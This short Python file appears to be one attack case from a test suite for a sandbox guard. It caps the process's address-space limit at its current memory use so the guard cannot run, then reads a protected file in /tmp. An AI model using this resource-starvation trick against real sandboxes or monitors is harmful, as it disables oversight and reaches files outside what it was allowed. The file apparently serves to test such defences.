# class: switch_off
# rule: read_write_tmp
# success: with no memory left for the guard to work with, a file in /tmp is read
# proof: read
import os
import resource

from attack import FILE, attempt


@attempt
def steal():
    with open("/proc/self/statm") as opened:
        used = int(opened.read().split()[0]) * 4096
    resource.setrlimit(resource.RLIMIT_AS, (used, resource.getrlimit(resource.RLIMIT_AS)[1]))
    try:
        return os.read(os.open(FILE, os.O_RDONLY), 100)
    finally:
        resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY,) * 2)
